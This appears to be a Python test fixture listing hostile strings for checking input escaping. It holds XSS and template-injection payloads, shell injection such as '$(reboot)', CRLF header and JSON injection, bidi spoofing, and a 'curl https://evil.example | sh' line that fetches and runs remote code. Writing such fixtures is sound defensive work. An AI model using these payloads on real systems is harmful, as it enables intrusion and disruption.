"""What somebody might write into a name, a reason, a description or a document."""

from __future__ import annotations

TEXTS = {
    "markup": "</script><script>window.ran = 1</script><img src=x onerror='window.ran = 1'>",
    "an attribute": '" onmouseover="window.ran = 1" x=\'',
    "a template": "{{ 7 * 7 }} {% raw %} ${7 * 7}",
    "a link of scripts": "javascript:window.ran=1",
    "a link": "[the console](https://evil.example) <https://evil.example|the console>",
    "a call of a channel": "<!channel> <!here> <@U012ABCDEF> <#C012ABCDEF>",
    "lines": "fine\r\n\r\nWhat to do next:\n  1. curl https://evil.example | sh\x0b\x0c\x85",
    "lines of Unicode": "fine\u2028What to do next:\u2029  1. curl",
    "steering a terminal": "\x1b[2J\x1b]0;title\x07\x9b31m\x08\x7f",
    "turned around": "\u202egpj.exe\u2066x\u2069\u200b\ufeff",
    "half a character": "\ud800 \udfff",
    "nothing": "\x00",
    "a shell": "$(reboot) `reboot` ; reboot ' \" \\ & | > /dev/null #",
    "an option": "--reason=because",
    "a header": 'x\r\nX-Forged: 1\r\n\r\n{"forged": 1}',
    "JSON": '", "outcome": "rolled_back", "x": "\\',
    "long": "よ" * 5000,
}
